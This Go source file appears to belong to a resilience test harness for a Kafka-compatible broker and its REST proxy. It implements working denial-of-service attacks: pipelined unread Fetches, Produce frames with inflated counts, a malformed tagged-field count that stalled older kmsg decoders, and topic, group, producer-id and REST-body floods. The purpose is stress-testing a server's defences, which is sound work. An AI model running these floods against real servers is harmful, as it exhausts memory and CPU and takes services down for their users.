package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"sync/atomic"
	"time"

	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// allocationAttacks are issue 14's classes: requests that make the server
// allocate more than the bytes they send (answers, decoding, decompression,
// group and producer state). Add one Attack per class of issue 14 here;
// attacks that need data in place first use Setup, which is not measured.
func allocationAttacks() []Attack {
	return []Attack{
		{Name: "kafka-pipeline-unread-fetch", Issue: 14, Listener: Kafka,
			What:  "2 connections each pipeline 40 Fetches of a 24 MiB partition (max 50 MiB) and never read",
			Setup: fillFetchTopic, Run: kafkaPipelineFetch},
		{Name: "kafka-produce-claimed-count", Issue: 14, Listener: Kafka,
			What: "1 connection at a time sends 8 MiB Produce v7 frames whose topic count claims every remaining byte",
			Run:  kafkaClaimedCount},
		{Name: "kafka-metadata-autocreate-flood", Issue: 14, Listener: Kafka,
			What: "4 connections on 4 IPs send Metadata v4 requests naming 5,000 fresh unknown topics each (auto-create allowed)",
			Run:  kafkaMetadataAutocreate},
		{Name: "kafka-produce-many-partitions", Issue: 14, Listener: Kafka,
			What: "2 connections send 8 MiB Produce v7 frames naming ~1M partitions with null records; 1 streams a 120 MiB frame of them",
			Run:  kafkaProduceManyPartitions},
		{Name: "kafka-joingroup-huge-metadata", Issue: 14, Listener: Kafka,
			What: "8 workers on 8 IPs each send one JoinGroup v3 with 900 KiB protocol metadata per connection, 4 members per fresh group",
			Run:  kafkaJoinGroupHugeMetadata},
		{Name: "kafka-offsetcommit-group-flood", Issue: 14, Listener: Kafka,
			What:  "4 connections on 4 IPs commit 16 offsets with 4 KiB metadata at generation -1, each into a fresh group",
			Setup: createAttackTopics, Run: kafkaOffsetCommitFlood},
		{Name: "kafka-producer-id-churn", Issue: 14, Listener: Kafka,
			What:  "4 connections on 4 IPs: InitProducerId, then one idempotent Produce to 16 partitions per fresh producer id",
			Setup: createAttackTopics, Run: kafkaProducerIDChurn},
		{Name: "kafka-tagged-field-count", Issue: 14, Listener: Kafka,
			What: "16 connections on 16 IPs send 40-byte Metadata v12 and ApiVersions v3 requests whose tagged-field count is 2^32-1",
			Run:  kafkaTaggedFieldCount},
		{Name: "http-rest-produce-tiny-records", Issue: 14, Listener: HTTP,
			What: "4 connections on 4 IPs POST 9 MiB bodies of ~790k tiny JSON records to /topics/attack-rest",
			Run:  httpRESTTinyRecords},
	}
}

// kafkaClaimedCount sends Produce frames whose topic array count is the
// number of bytes that follow it: kmsg checks a count only against the
// bytes left (one byte per element), then allocates count elements of
// tens of bytes each before the decoding fails.
func kafkaClaimedCount(ctx context.Context, t *Target) error {
	const size = 8 << 20
	frame := kafkaHead(size, 0, 7, 1)
	frame = binary.BigEndian.AppendUint16(frame, 0xffff) // transactional id: null
	frame = binary.BigEndian.AppendUint16(frame, 1)      // acks
	frame = binary.BigEndian.AppendUint32(frame, 1000)   // timeout
	count := size + 4 - len(frame) - 4                   // the bytes after the count
	frame = binary.BigEndian.AppendUint32(frame, uint32(count))
	frame = append(frame, make([]byte, count)...)
	return repeat(ctx, t.N(1), func(ctx context.Context, w int) {
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			for ctx.Err() == nil && writeAll(c, frame) {
				drainFor(c, 10*time.Millisecond)
			}
		})
	})
}

// kafkaTaggedFieldCount sends flexible requests whose body ends with a
// tagged-field count of 2^32-1 and nothing after it. kmsg up to v1.15.0
// went on counting down after the bytes ran out (a map write each time):
// 20-40 s of a core for one 40-byte request (found by FuzzParseHeader),
// so a few such requests held every pool worker, or the loop itself.
func kafkaTaggedFieldCount(ctx context.Context, t *Target) error {
	bomb := []byte{0xff, 0xff, 0xff, 0xff, 0x0f} // uvarint 2^32-1
	flexible := func(key, version int16, body []byte) []byte {
		f := kafkaHead(0, key, version, 1)
		f = append(f, 0) // request header tags: none
		f = append(f, body...)
		f = append(f, bomb...)
		binary.BigEndian.PutUint32(f, uint32(len(f)-4))
		return f
	}
	frames := [][]byte{
		flexible(3, 12, []byte{0, 0, 0}),        // Metadata: topics null, no auto-create, no authorized ops
		flexible(18, 3, []byte{2, 'a', 2, '1'}), // ApiVersions: software name "a", version "1"
	}
	// More connections than pool workers: with the old kmsg every worker
	// was held (one request at a time per connection, in order).
	return repeat(ctx, t.N(16), func(ctx context.Context, w int) {
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			for i := 0; ctx.Err() == nil && writeAll(c, frames[i%len(frames)]); i++ {
				drainFor(c, 5*time.Millisecond)
			}
		})
	})
}

// fetchTopic holds the data kafka-pipeline-unread-fetch fetches.
const fetchTopic = "attack-fetch"

// fillFetchTopic produces 24 MiB into fetchTopic (96 records of 256 KiB,
// random and uncompressed): every Fetch of the attack then makes the
// server read and answer 24 MiB.
func fillFetchTopic(ctx context.Context, t *Target) error {
	return fillTopic(ctx, t, fetchTopic, 96, 256<<10)
}

// fillTopic produces n random, uncompressed records of size bytes to
// topic (created if missing) from an attacker address; opts add to the
// producer's options.
func fillTopic(ctx context.Context, t *Target, topic string, n, size int, opts ...kgo.Opt) error {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: AttackerIP(100)}, Timeout: 2 * time.Second}
	cl, err := kgo.NewClient(append([]kgo.Opt{kgo.SeedBrokers(t.KafkaAddr), kgo.Dialer(d.DialContext), kgo.DefaultProduceTopic(topic),
		kgo.AllowAutoTopicCreation(), kgo.ProducerBatchCompression(kgo.NoCompression())}, opts...)...)
	if err != nil {
		return err
	}
	defer cl.Close()
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	recs := make([]*kgo.Record, n)
	for i := range recs {
		v := make([]byte, size)
		_, _ = rand.Read(v)
		recs[i] = &kgo.Record{Value: v}
	}
	if err := cl.ProduceSync(ctx, recs...).FirstErr(); err != nil {
		return fmt.Errorf("fill %s: %w", topic, err)
	}
	return nil
}

func kafkaPipelineFetch(ctx context.Context, t *Target) error {
	req := kmsg.NewPtrFetchRequest()
	req.Version = 4
	req.ReplicaID = -1
	req.MaxBytes = 50 << 20
	rt := kmsg.NewFetchRequestTopic()
	rt.Topic = fetchTopic
	rp := kmsg.NewFetchRequestTopicPartition()
	rp.PartitionMaxBytes = 50 << 20
	rt.Partitions = append(rt.Partitions, rp)
	req.Topics = append(req.Topics, rt)
	var msg []byte
	for i := int32(0); i < 40; i++ {
		msg = appendFrame(msg, req, i)
	}
	return hold(ctx, t, Kafka, t.N(2), 2, 0, func(ctx context.Context, c net.Conn) { writeAll(c, msg) })
}

// maxAnswer is the largest Kafka answer an attacker reads: a larger one is
// not buffered but counted as read and discarded.
const maxAnswer = 64 << 20

// discardFrames reads Kafka response frames from c and discards them until
// a read fails (c closed or its deadline passed); it returns the number of
// frames and the largest one's size.
func discardFrames(c net.Conn) (frames int, largest int64) {
	for {
		n, err := discardFrame(c)
		if err != nil {
			return frames, largest
		}
		frames++
		largest = max(largest, n)
	}
}

// discardFrame reads one Kafka response frame from c without buffering
// it and returns its size.
func discardFrame(c net.Conn) (int64, error) {
	var hdr [4]byte
	if _, err := io.ReadFull(c, hdr[:]); err != nil {
		return 0, err
	}
	n := int64(binary.BigEndian.Uint32(hdr[:]))
	_, err := io.CopyN(io.Discard, c, n)
	return n, err
}

// readingFrames runs f on c while a goroutine reads and discards c's
// responses, so a pipelining attacker never leaves the server's answers
// unread; the reader is stopped when f returns.
func readingFrames(c net.Conn, f func()) {
	done := make(chan struct{})
	go func() { defer close(done); discardFrames(c) }()
	f()
	_ = c.SetReadDeadline(time.Now())
	<-done
}

// attackTopics are created by createAttackTopics, with attackPartitions
// partitions each: the offsets and producer attacks name existing
// partitions, so the server does the work it does for real clients.
var attackTopics = []string{"attack-offsets", "attack-pid"}

const attackPartitions = 16

// createAttackTopics creates attackTopics with CreateTopics from an
// attacker address.
func createAttackTopics(ctx context.Context, t *Target) error {
	return createTopics(ctx, t, attackPartitions, attackTopics...)
}

// createTopics creates topics of partitions partitions each with
// CreateTopics sent by franz-go (to the controller's listener through a
// gateway) from an attacker address.
func createTopics(ctx context.Context, t *Target, partitions int32, topics ...string) error {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: AttackerIP(100)}, Timeout: 2 * time.Second}
	cl, err := kgo.NewClient(kgo.SeedBrokers(t.KafkaAddr), kgo.Dialer(d.DialContext))
	if err != nil {
		return err
	}
	defer cl.Close()
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	req := kmsg.NewPtrCreateTopicsRequest()
	req.TimeoutMillis = 5000
	for _, name := range topics {
		rt := kmsg.NewCreateTopicsRequestTopic()
		rt.Topic = name
		rt.NumPartitions = partitions
		rt.ReplicationFactor = 1
		req.Topics = append(req.Topics, rt)
	}
	resp, err := req.RequestWith(ctx, cl)
	if err != nil {
		return fmt.Errorf("create %v: %w", topics, err)
	}
	for _, rt := range resp.Topics {
		if err := kerr.ErrorForCode(rt.ErrorCode); err != nil {
			return fmt.Errorf("create %s: %w", rt.Topic, err)
		}
	}
	return nil
}

// kafkaRounds runs f on one raw Kafka connection per worker, from
// AttackerIP(worker), reconnecting when the server closes it, until ctx
// ends.
func kafkaRounds(ctx context.Context, t *Target, workers int, f func(ctx context.Context, kc *kafkaConn, w int)) error {
	return repeat(ctx, workers, func(ctx context.Context, w int) {
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			f(ctx, &kafkaConn{Conn: c}, w)
		})
	})
}

// kafkaMetadataAutocreate names 5,000 topics no one created in every
// Metadata request, fresh names each time: without limits each name is a
// topic created (files, topics.json rewritten) and retained.
func kafkaMetadataAutocreate(ctx context.Context, t *Target) error {
	return kafkaRounds(ctx, t, t.N(4), func(ctx context.Context, kc *kafkaConn, w int) {
		for round := int32(1); ctx.Err() == nil; round++ {
			req := kmsg.NewPtrMetadataRequest()
			req.Version = 4
			req.AllowAutoTopicCreation = true
			req.Topics = make([]kmsg.MetadataRequestTopic, 5000)
			for i := range req.Topics {
				req.Topics[i] = kmsg.NewMetadataRequestTopic()
				req.Topics[i].Topic = kmsg.StringPtr(fmt.Sprintf("auto-%d-%d-%d", w, round, i))
			}
			if kc.roundTrip(req, round, 5*time.Second) != nil {
				return
			}
		}
	})
}

// producePartitionsFrame is a Produce v7 frame of one topic naming
// partitions partitions, each with null records, up to the entries
// (8 bytes each): the whole frame when entries is partitions.
func producePartitionsFrame(partitions, entries int) []byte {
	frame := produceHead("attack-parts")
	size := len(frame) - 4 + 4 + 8*partitions // .. the partition count and the partitions
	binary.BigEndian.PutUint32(frame, uint32(size))
	frame = binary.BigEndian.AppendUint32(frame, uint32(partitions))
	for i := 0; i < entries; i++ {
		frame = binary.BigEndian.AppendUint32(frame, uint32(i))
		frame = binary.BigEndian.AppendUint32(frame, 0xffffffff) // records: null
	}
	return frame
}

// produceHead is the start of a Produce v7 frame (acks=1, one topic)
// through the topic's name; its length is the caller's to set.
func produceHead(topic string) []byte {
	frame := kafkaHead(0, 0, 7, 1)
	frame = binary.BigEndian.AppendUint16(frame, 0xffff) // transactional id: null
	frame = binary.BigEndian.AppendUint16(frame, 1)      // acks
	frame = binary.BigEndian.AppendUint32(frame, 1000)   // timeout
	frame = binary.BigEndian.AppendUint32(frame, 1)      // topics
	frame = binary.BigEndian.AppendUint16(frame, uint16(len(topic)))
	return append(frame, topic...)
}

// kafkaProduceManyPartitions sends Produce frames of 8 bytes per
// partition: 8 MiB name ~1M partitions, whose decoded structs and
// per-partition answers are many times the bytes received. One worker
// streams a frame announcing 120 MiB (over --max-request-size) of them.
func kafkaProduceManyPartitions(ctx context.Context, t *Target) error {
	const small = (8<<20 - 64) / 8
	frame := producePartitionsFrame(small, small)
	const big = 120 << 20 / 8
	entries := make([]byte, 0, 64<<10)
	for i := 0; len(entries) < cap(entries); i++ {
		entries = binary.BigEndian.AppendUint32(entries, uint32(i))
		entries = binary.BigEndian.AppendUint32(entries, 0xffffffff)
	}
	oversize := producePartitionsFrame(big, 0)
	workers := t.N(2)
	return repeat(ctx, workers+1, func(ctx context.Context, w int) {
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			if w < workers {
				// A client that waits for each answer, as
				// kafka-produce-claimed-count does.
				for ctx.Err() == nil && writeAll(c, frame) {
					_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
					if _, err := discardFrame(c); err != nil {
						return
					}
				}
				return
			}
			readingFrames(c, func() {
				if !writeAll(c, oversize) {
					return
				}
				for sent := 0; sent < 8*big && ctx.Err() == nil && writeAll(c, entries); sent += len(entries) {
				}
				sleep(ctx, 50*time.Millisecond)
			})
		})
	})
}

// kafkaJoinGroupHugeMetadata joins fresh groups, 4 members each, with
// 900 KiB of protocol metadata (under the 1 MiB request limit of
// non-produce requests), one JoinGroup per connection: members outlive
// their connections for the session timeout, so what they hold is
// retained after the attacker has left unless it is bounded.
func kafkaJoinGroupHugeMetadata(ctx context.Context, t *Target) error {
	meta := make([]byte, 900<<10)
	var seq atomic.Int64
	return repeat(ctx, t.N(8), func(ctx context.Context, w int) {
		i := seq.Add(1)
		req := kmsg.NewPtrJoinGroupRequest()
		req.Version = 3
		req.Group = fmt.Sprintf("attack-join-%d", i/4)
		req.SessionTimeoutMillis = 300_000
		req.RebalanceTimeoutMillis = 60_000
		req.ProtocolType = "consumer"
		p := kmsg.NewJoinGroupRequestProtocol()
		p.Name = "range"
		p.Metadata = meta
		req.Protocols = append(req.Protocols, p)
		msg := kafkaFormatter.AppendRequest(nil, req, int32(i))
		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
			if writeAll(c, msg) {
				drainFor(c, 20*time.Millisecond)
			}
		})
	})
}

// kafkaOffsetCommitFlood commits at generation -1, which Kafka accepts
// from anyone and which creates the group: every request a fresh group
// with 16 offsets of 4 KiB metadata, retained (and logged) until they
// expire.
func kafkaOffsetCommitFlood(ctx context.Context, t *Target) error {
	meta := string(make([]byte, 4096))
	var seq atomic.Int64
	return kafkaRounds(ctx, t, t.N(4), func(ctx context.Context, kc *kafkaConn, w int) {
		for ctx.Err() == nil {
			i := seq.Add(1)
			req := kmsg.NewPtrOffsetCommitRequest()
			req.Version = 5
			req.Group = fmt.Sprintf("attack-commit-%d", i)
			req.Generation = -1
			rt := kmsg.NewOffsetCommitRequestTopic()
			rt.Topic = attackTopics[0]
			for p := int32(0); p < attackPartitions; p++ {
				rp := kmsg.NewOffsetCommitRequestTopicPartition()
				rp.Partition = p
				rp.Offset = 1
				rp.Metadata = &meta
				rt.Partitions = append(rt.Partitions, rp)
			}
			req.Topics = append(req.Topics, rt)
			if kc.roundTrip(req, int32(i), 5*time.Second) != nil {
				return
			}
		}
	})
}

// kafkaProducerIDChurn takes a fresh producer id for every Produce and
// appends one idempotent batch with it to each of 16 partitions: every
// batch is a producer state (per producer id and partition) the server
// keeps to detect duplicates.
func kafkaProducerIDChurn(ctx context.Context, t *Target) error {
	return kafkaRounds(ctx, t, t.N(4), func(ctx context.Context, kc *kafkaConn, w int) {
		for corr := int32(1); ctx.Err() == nil; corr += 2 {
			init := kmsg.NewPtrInitProducerIDRequest()
			init.TransactionTimeoutMillis = 60_000
			if kc.roundTrip(init, corr, 5*time.Second) != nil {
				return
			}
			resp := kmsg.NewPtrInitProducerIDResponse()
			if resp.ReadFrom(kc.buf[4:]) != nil || resp.ErrorCode != 0 {
				sleep(ctx, 10*time.Millisecond)
				continue
			}
			batch := idempotentBatch(resp.ProducerID, resp.ProducerEpoch)
			req := kmsg.NewPtrProduceRequest()
			req.Version = 7
			req.Acks = 1
			req.TimeoutMillis = 1000
			rt := kmsg.NewProduceRequestTopic()
			rt.Topic = attackTopics[1]
			for p := int32(0); p < attackPartitions; p++ {
				rp := kmsg.NewProduceRequestTopicPartition()
				rp.Partition = p
				rp.Records = batch
				rt.Partitions = append(rt.Partitions, rp)
			}
			req.Topics = append(req.Topics, rt)
			if kc.roundTrip(req, corr+1, 5*time.Second) != nil {
				return
			}
		}
	})
}

// idempotentBatch is a valid v2 record batch of one 1-byte record,
// sequence 0 of producer id at epoch.
func idempotentBatch(id int64, epoch int16) []byte {
	// One record: length 7, attributes, timestamp and offset deltas 0,
	// null key, a 1-byte value, no headers (varints zigzag-encoded).
	record := []byte{0x0e, 0, 0, 0, 0x01, 0x02, 'x', 0}
	now := time.Now().UnixMilli()
	b := (&kmsg.RecordBatch{PartitionLeaderEpoch: -1, Magic: 2, FirstTimestamp: now, MaxTimestamp: now,
		ProducerID: id, ProducerEpoch: epoch, NumRecords: 1, Records: record}).AppendTo(nil)
	binary.BigEndian.PutUint32(b[8:], uint32(len(b)-12))                                          // length: after the length field
	binary.BigEndian.PutUint32(b[17:], crc32.Checksum(b[21:], crc32.MakeTable(crc32.Castagnoli))) // from attributes on
	return b
}

// httpRESTTinyRecords posts bodies just under --max-body-size-bytes made of
// the smallest JSON records: each record becomes structs, a batch entry and
// an offset in the answer, many times its 12 bytes.
func httpRESTTinyRecords(ctx context.Context, t *Target) error {
	const rec = `{"value":1},`
	body := []byte(`{"records":[`)
	for len(body)+len(rec) < 9<<20 {
		body = append(body, rec...)
	}
	body = append(body[:len(body)-1], "]}"...)
	workers := t.N(4)
	clients := make([]*http.Client, workers)
	for w := range clients {
		clients[w] = httpClientFrom(AttackerIP(w), 10*time.Second)
		defer clients[w].CloseIdleConnections()
	}
	return repeat(ctx, workers, func(ctx context.Context, w int) {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.HTTPAddr+"/topics/attack-rest", bytes.NewReader(body))
		if err != nil {
			return
		}
		req.Header.Set("Content-Type", "application/vnd.kafka.json.v2+json")
		resp, err := clients[w].Do(req)
		if err != nil {
			sleep(ctx, 10*time.Millisecond)
			return
		}
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, maxAnswer))
		resp.Body.Close()
	})
}
